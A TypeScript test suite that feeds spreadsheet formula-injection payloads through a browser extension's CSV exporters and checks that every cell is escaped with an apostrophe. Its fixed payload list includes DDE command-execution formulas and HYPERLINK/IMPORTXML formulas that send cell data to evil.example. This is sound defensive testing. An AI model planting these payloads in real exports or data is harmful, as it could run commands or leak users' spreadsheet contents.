import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fabeTableCsv, gapMatrixCsv } from '../../../components/fabe/exports';
import { createTranslator, type LocaleMessage, type Translate } from '../../../components/i18n';
import { rowsForRead, toCsv, CSV_COLUMNS, type CsvRow } from '../../../lib/cli/csv';
import type { ScoredRead } from '../../../lib/cli/title-scores';
import type { ProductRow, SnapshotRow } from '../../../lib/db';
import { csvDocument } from '../../../lib/export/csv';
import { snapshotsCsv } from '../../../lib/export/snapshots-csv';
import type { FabeTable, GapMatrix, PageRead } from '../../../lib/schema';
import { parseCsv } from '../../cli/parse-csv';
import { productRead } from '../../db/fixtures/sample-reads';
import type { Rng } from './rng';
import { failureNote, type SuiteResult } from './suite';

/**
 * Spreadsheet formula injection through every CSV the extension writes: the audit
 * command's (lib/cli/csv.ts), the snapshots export (lib/export/snapshots-csv.ts), the FABE
 * table and gap matrix (components/fabe/exports.ts, in English and Chinese) and the shared
 * writer itself. Every text field that reaches a cell carries a payload starting with
 * = + - @ tab or CR (DDE `=cmd|' /C calc'!A0` among them). The output is read back with an
 * independent RFC 4180 reader (tests/cli/parse-csv.ts): no cell may start with one of
 * those characters, and each payload must be there, behind its apostrophe, whole.
 */
export const FORMULA_START = /^[=+\-@\t\r]/;

const FIXED = [
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1:Z9),"//a")',
  '@evil, "quoted", and commas',
];

function payloads(r: Rng, n: number): string[] {
  const tails = ['1+1', `cmd|' /C calc'!A0`, 'A1', 'SUM(A1:A9)', '价格', '"x"', ',', '\n'];
  const out = [...FIXED];
  while (out.length < n) out.push(`${r.pick(['=', '+', '-', '@', '\t', '\r'])}${r.pick(tails)}${r.int(1000)}`);
  return out;
}

const LOCALES = join(import.meta.dirname, '../../../public/_locales');
const translator = (folder: 'en' | 'zh_CN'): Translate =>
  createTranslator(JSON.parse(readFileSync(join(LOCALES, folder, 'messages.json'), 'utf8')) as Record<string, LocaleMessage>);

/** One exporter fed payload `p` in every text field it writes to a cell. */
interface Exporter {
  name: string;
  csv: (p: string, q: string) => string;
}

function readWith(p: string, q: string): PageRead {
  const read = productRead();
  return {
    ...read,
    url: p,
    product: {
      ...read.product!,
      id: q,
      title: p,
      brand: q,
      seller: p,
      availability: q,
      priceLabel: p,
      salesVolume: { text: q },
      salesRanks: [{ rank: 1, category: p }],
      shop: { name: q },
    },
  } as PageRead;
}

function exporters(): Exporter[] {
  const en = translator('en');
  const zh = translator('zh_CN');
  const fabe = (p: string, q: string): FabeTable => ({
    marketplace: 'amazon',
    productId: q,
    title: p,
    lang: 'en',
    statements: [
      { id: 's1', text: p, lang: 'en', source: { origin: 'spec', specName: q }, part: 'F', confidence: 0.9, cue: q },
      { id: 's2', text: q, lang: 'en', source: { origin: 'review', reviewDate: p, reviewRating: 1 }, part: 'B', confidence: 0.5, cue: p },
      { id: 's3', text: p, lang: 'zh', source: { origin: 'bullet', index: 0 }, part: 'none', confidence: 0.1 },
    ],
    chains: [{ id: 'c1', theme: p, features: ['s1'], advantages: [], benefits: ['s2'], evidence: [{ kind: 'review-quote', text: q, statementId: 's2', stance: 'contradicts' }], unsupported: false, strength: 1 }],
  });
  const gap = (p: string, q: string): GapMatrix => ({
    themes: [p, q],
    products: [
      { productId: q, title: p, mine: true, claims: { [p]: ['F'] } },
      { productId: p, title: q, mine: false, claims: { [q]: ['A', 'B'] } },
    ],
    missingFromMine: [q],
    onlyMine: [p],
  });
  const snapshot = (p: string, q: string): SnapshotRow => {
    const read = readWith(p, q);
    return { productKey: `amazon:${q}`, marketplace: 'amazon', productId: q, pageKind: 'product', url: p, readAt: read.readAt, readAtMs: 0, lastSeenMs: 0, hash: '0'.repeat(28), read } as SnapshotRow;
  };
  const product = (q: string) => new Map([[`amazon:${q}`, { key: `amazon:${q}`, role: 'competitor' } as ProductRow]]);
  return [
    { name: 'lib/export/csv csvDocument', csv: (p, q) => csvDocument([[p, q, 1], [q, undefined, p]], { bom: true }) },
    { name: 'lib/export/snapshots-csv', csv: (p, q) => snapshotsCsv([snapshot(p, q), snapshot(q, p)], product(q)) },
    { name: 'lib/cli/csv toCsv', csv: (p, q) => toCsv([Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, i % 2 ? p : q])) as CsvRow]) },
    { name: 'lib/cli/csv rowsForRead', csv: (p, q) => toCsv(rowsForRead(p, { ...readWith(p, q), titleScore: undefined } as unknown as ScoredRead)) },
    { name: 'components/fabe fabeTableCsv (en)', csv: (p, q) => fabeTableCsv(fabe(p, q), en, { bom: true }) },
    { name: 'components/fabe fabeTableCsv (zh_CN)', csv: (p, q) => fabeTableCsv(fabe(p, q), zh) },
    { name: 'components/fabe gapMatrixCsv', csv: (p, q) => gapMatrixCsv(gap(p, q), { bom: true }) },
  ];
}

/** What is wrong with these parsed cells: one that starts a formula, or a payload not shown whole behind an apostrophe. */
export function cellProblem(cells: readonly string[], payloads: readonly string[]): string | undefined {
  const live = cells.find((c) => FORMULA_START.test(c));
  if (live !== undefined) return `a cell starts a formula: ${JSON.stringify(live.slice(0, 60))}`;
  const lost = payloads.find((x) => !cells.some((c) => c.includes(`'${x}`)));
  return lost === undefined ? undefined : `${JSON.stringify(lost)} is not in the output behind an apostrophe`;
}

export async function csvCellsSuite(r: Rng, scale: number): Promise<SuiteResult> {
  const failures: string[] = [];
  let tried = 0;
  let rejected = 0;
  const list = payloads(r, Math.max(FIXED.length + 4, Math.round(200 * scale)));
  for (const ex of exporters()) {
    for (const p of list) {
      const q = r.pick(list);
      tried++;
      let cells: string[];
      try {
        cells = parseCsv(ex.csv(p, q)).records.flat();
      } catch (err) {
        failures.push(`${ex.name} with ${JSON.stringify(p)}: ${String(err).slice(0, 160)}`);
        continue;
      }
      const problem = cellProblem(cells, [p, q]);
      if (problem) failures.push(`${ex.name}: ${problem}`);
      else rejected++;
    }
  }
  return {
    row: { suite: 'CSV cells', tried, rejected, failures: failures.length, note: failureNote(failures, `${exporters().length} exporters; every payload cell shown as text ('=…), none lost`) },
    failures,
  };
}
